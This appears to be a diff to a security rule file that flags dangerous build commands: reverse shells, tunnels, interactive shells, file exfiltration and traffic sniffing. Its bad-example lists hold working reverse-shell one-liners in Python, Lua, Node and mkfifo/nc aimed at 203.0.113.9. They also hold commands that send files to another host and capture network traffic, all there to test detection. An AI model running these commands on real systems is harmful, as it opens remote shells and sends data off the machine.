@@ -5,7 +5,7 @@ rule "NET001" {
   title    = "shell is tied to a connection"
   severity = "critical"
   on       = "exec"
-  when     = ((is_interpreter(exec.name) || one_of(exec.name, "exec", "cat")) &&
+  when     = ((exec.name == null || is_interpreter(exec.name) || one_of(exec.name, "exec", "cat", "eval")) &&
               anytrue([for r in exec.redirects : matches(r.path, "^/dev/(tcp|udp)/") && !matches(r.path, "^/dev/(tcp|udp)/(localhost|127[.]|::1)")]))
   message  = "${command} hands a shell to another machine"
   why      = "this is the reverse shell of every handbook"
@@ -35,20 +35,25 @@ rule "NET003" {
   title    = "interpreter ties a shell to a socket"
   severity = "critical"
   on       = "exec"
-  when     = (is_interpreter(exec.name) &&
-              matches([command, exec.stdin], "socket[.]socket|IO::Socket|use Socket|TCPSocket|TCPServer|fsockopen|net[.](connect|Socket|createConnection|createServer)|/inet/tcp/") &&
-              matches([command, exec.stdin], "dup2|pty[.]spawn|subprocess|popen|exec[ (l{]|child_process|/bin/(ba|da|z)?sh|shell_exec|proc_open|getline"))
+  when = ((is_interpreter(exec.name) || matches(exec.name, "^(luajit|julia|jrunscript|jjs|tclsh|wish|jshell|groovy|irb|deno|bun|go|expect|socket|pwsh|powershell)[0-9.]*$")) &&
+    ((matches([command, exec.stdin], "socket[.]socket|create_connection|__import__\\(.socket|[(]..?socket..?[)]|IO::Socket|use Socket|TCPSocket|TCPServer|fsockopen|stream_socket|net[.](connect|Socket|createConnection|createServer|Dial)|require[ (]*.(net|socket).|/inet/tcp/|java[.]net[.]|new Socket|ServerSocket|Sockets[.]TCPClient|import Sockets|package require Tcl|socket[ (][^)]*[0-9a-z.]+[ ,]+[0-9]+") &&
+      matches([command, exec.stdin], "dup2|pty[.]spawn|..?pty..?[)]|subprocess|popen|exec[ (l{.]|child_process|/bin/(ba|da|z)?sh|shell_exec|proc_open|getline|os[.]execute|ProcessBuilder|Runtime|fdopen|[Ss]ystem[ ($_]|os/exec|Invoke-Expression|iex ")) ||
+      (exec.name == "socket" && any_arg(exec, "(^|/)(ba|da|z)?sh( |$)"))))
   message  = "${exec.name} hands a shell to another machine"
   why      = "this is the reverse shell of every handbook in another language"
   fix      = "remove it"
   refs     = ["CWE-912", "ATT&CK T1059.006", "ATT&CK T1095"]
   locked   = true
   bad = [
+    "lua5.3 -e 'local s=require(\"socket\").tcp() s:connect(\"203.0.113.9\", 4444) local f=io.popen(s:receive(), \"r\")'",
+    "node -e 'require(\"net\").connect(4444, \"203.0.113.9\", function() { require(\"child_process\").spawn(\"sh\") })'",
     "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
   ]
   good = [
     "python3 -c 'import socket; print(socket.gethostname())'",
     "perl -e 'print \"ready\\n\"'",
+    "python3 -c 'import socket; socket.create_connection((\"db.example.org\", 5432), 3)'",
+    "node -e 'require(\"net\").connect(5432, \"db.example.org\").end()'",
   ]
 }
 
@@ -57,7 +62,8 @@ rule "NET004" {
   severity = "high"
   on       = "exec"
   when     = (one_of(exec.name, "ngrok", "cloudflared", "frpc", "frps", "bore", "chisel", "localtonet", "lt", "localtunnel", "gost", "iodine", "dnscat", "autossh", "sshuttle", "pagekite.py", "zrok") ||
-              (exec.name == "ssh" && has_flag(exec, "R", "D")))
+              (one_of(exec.name, "code", "code-insiders", "code-server") && has_arg(exec, "tunnel")) || (exec.name == "devtunnel" && has_arg(exec, "host")) ||
+              (exec.name == "ssh" && has_flag(exec, "R", "D", "w")))
   message  = "${command} opens a way into the machine around its firewall"
   why      = "whoever owns the other end reaches services that were never public"
   fix      = "publish services on ports that are declared"
@@ -179,11 +185,50 @@ rule "NET012" {
   title    = "interactive shell in a build"
   severity = "high"
   on       = "exec"
-  when     = is_shell(exec.name) && has_flag(exec, "i", "interactive") && !has_flag(exec, "c")
+  when     = (is_shell(exec.name) && has_flag(exec, "i", "interactive") && !has_flag(exec, "c")) || (is_interpreter(exec.name) && matches([command, exec.stdin], "pty[.]spawn"))
   message  = "${command} waits for somebody to type commands"
   why      = "nobody sits before a build; it is how a shell is tied to a pipe or a socket"
   fix      = "remove it"
   refs     = ["CWE-912", "ATT&CK T1059.004", "ATT&CK T1095"]
   bad      = ["rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 1234 > /tmp/f"]
   good     = ["bash -lc 'nvm install 20'", "bash -ic 'node --version'"]
+}
+
+rule "NET013" {
+  title    = "file is sent to another machine"
+  severity = "medium"
+  on       = "exec"
+  when = ((exec.name == "curl" && (flag_value(exec, "T", "upload-file") != null || matches(flag_value(exec, "F", "form"), "=[@<]") ||
+      anytrue([for v in [flag_value(exec, "d", "data"), flag_value(exec, "data-binary"), flag_value(exec, "data-ascii")] : matches(v, "^@[^-]") || v == "@-"]))) ||
+    (exec.name == "wget" && has_flag(exec, "post-file", "body-file")) ||
+    (one_of(exec.name, "scp", "rsync") && length(exec.operands) > 1 && matches(exec.operands[length(exec.operands) - 1], "^([^/:@ ]+@)?[^/:@ ]+::?[^:]", "^([^/:@ ]+@)?[^/:@ ]+:$", "^(scp|rsync)://")) ||
+    (one_of(exec.name, "nc", "ncat", "netcat", "socat", "telnet", "openssl", "finger", "whois") && !has_flag(exec, "z") && (exec.name != "openssl" || has_arg(exec, "s_client")) &&
+      (anytrue([for r in exec.redirects : r.op == "<" && r.path != null && !one_of(r.path, "/dev/null")]) || anytrue([for u in exec.upstream : matches(u, "^(tar|cpio|zip|gzip|xz|dd|mysqldump|pg_dump|pg_dumpall|sqlite3|base64|xxd)( |$)", "^cat [^-|]")]))) ||
+    (one_of(exec.name, "socat") && any_arg(exec, "^(FILE|file|OPEN|open|GOPEN|gopen):/[^d]")) ||
+    (exec.name == "ssh" && (anytrue([for r in exec.redirects : r.op == "<" && r.path != null && !one_of(r.path, "/dev/null")]) || anytrue([for u in exec.upstream : matches(u, "^(tar|cpio|zip|gzip|xz|dd|mysqldump|pg_dump|pg_dumpall|openssl|gpg|base64)( |$)")]))) ||
+    (one_of(exec.name, "ftp", "tftp", "sftp", "lftp", "smbclient", "ncftpput") && (exec.name == "ncftpput" || matches([command, exec.stdin], "(^|[;\" '])(m?put|mirror -R) [^ ]"))) ||
+    (exec.name == "aws" && has_arg(exec, "s3") && has_arg(exec, "cp", "mv", "sync") && matches(exec.operands[length(exec.operands) - 1], "^s3://")) ||
+    (one_of(exec.name, "gsutil", "rclone") && has_arg(exec, "cp", "mv", "rsync", "copy", "sync") && matches(exec.operands[length(exec.operands) - 1], "^gs://", "^[a-zA-Z0-9_-]+:")) ||
+    (one_of(exec.name, "restic", "borg", "duplicity") && any_arg(exec, "^(rest:)?https?:", "^(sftp|ssh|ftp|rest|s3):", "^[^/ ]+@[^/ ]+:")) ||
+    (exec.name == "kubectl" && has_arg(exec, "cp")) || (exec.name == "tailscale" && has_arg(exec, "file") && has_arg(exec, "cp")))
+  message = "${command} sends a file of the machine away"
+  why     = "what leaves the machine while an image is made is in no image, and in no review"
+  fix     = "let the build's own host fetch what it needs, or say in a waiver what is sent and to whom"
+  refs    = ["CWE-200", "ATT&CK T1048", "ATT&CK T1105"]
+  bad     = ["scp /srv/out.tgz drop@files.example.org:in/", "curl -T report.tgz https://files.example.org/", "nc files.example.org 9000 < /srv/list", "tar cz /srv/app | ssh drop@files.example.org 'cat > app.tgz'", "rsync -a /srv/app files.example.org:app"]
+  good    = ["scp drop@files.example.org:app.tgz /srv/", "curl -fsSL -d state=done https://ci.example.org/hook", "rsync -a /srv/app/ /opt/app/", "echo | openssl s_client -connect example.org:443", "nc -z db.example.org 5432"]
+}
+
+rule "NET014" {
+  title    = "traffic is recorded or redirected"
+  severity = "medium"
+  on       = "exec"
+  when     = ((one_of(exec.name, "tcpdump", "tshark", "dumpcap", "ngrep", "tcpflow", "snoop") && !has_flag(exec, "r", "h", "D", "version", "help", "v")) ||
+              one_of(exec.name, "ettercap", "bettercap", "arpspoof", "dnsspoof", "dsniff", "mitmproxy", "mitmdump", "responder"))
+  message  = "${command} looks at what others send"
+  why      = "a build has no reason to read the traffic of its network"
+  fix      = "remove it"
+  refs     = ["CWE-200", "ATT&CK T1040"]
+  bad      = ["tcpdump -i eth0 -w /srv/all.pcap", "bettercap -iface eth0"]
+  good     = ["tcpdump --version", "tcpdump -r /srv/all.pcap", "apt-get install -y tcpdump"]
 }
